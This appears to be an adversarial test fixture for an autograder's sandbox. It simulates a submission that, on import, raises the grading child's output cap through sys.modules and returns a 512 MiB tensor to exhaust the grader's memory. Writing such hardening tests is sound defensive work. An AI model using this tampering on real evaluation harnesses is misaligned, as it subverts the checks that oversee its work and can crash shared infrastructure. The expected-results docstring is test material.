# ruff: noqa
"""ATTACK gpt_huge_return (class: resources: a huge return through a generation driver).

Intent: exhaust the grader's memory with what a call returns. At import this file raises
the grading child's own cap on returned numbers (autograder.sandbox.child's
MAX_OUTPUT_ELEMENTS, found in sys.modules) to far beyond it; sample then returns the right
tokens inside a (2^25, 2) int64 tensor (512 MiB), which the sample driver passes on as its
first output. The grader must not read or hold it: what it takes from a child is bounded in
bytes, whatever the child claims.

Expected: sample 0, everything else full marks; the grader finishes the class.
"""

import sys

# __HONEST__

_child = sys.modules.get("autograder.sandbox.child")
if _child is not None:
    _child.MAX_OUTPUT_ELEMENTS = 1 << 40

_honest_sample = sample


def sample(model, input_ids, max_new_tokens, generator, temperature=1.0, top_k=0, top_p=1.0):
    tokens = _honest_sample(model, input_ids, max_new_tokens, generator, temperature, top_k, top_p)
    huge = torch.zeros(1 << 25, 2, dtype=torch.int64)
    huge[: tokens.numel(), 0] = tokens.flatten()
    return huge
